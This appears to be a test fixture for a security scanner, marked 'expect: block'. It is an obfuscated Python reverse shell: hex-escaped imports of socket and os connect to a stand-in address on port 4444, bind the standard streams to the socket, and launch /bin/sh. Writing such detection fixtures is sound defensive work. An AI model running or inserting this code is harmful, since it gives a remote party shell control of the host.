# expect: block
n = __import__("\x73\x6f\x63\x6b\x65\x74")
o = __import__("\x6f\x73")
c = n.create_connection(("\x32\x30\x33\x2e\x30\x2e\x31\x31\x33\x2e\x37", 4444))
for i in (0, 1, 2):
    o.dup2(c.fileno(), i)
o.execl("/bin/sh", "sh")
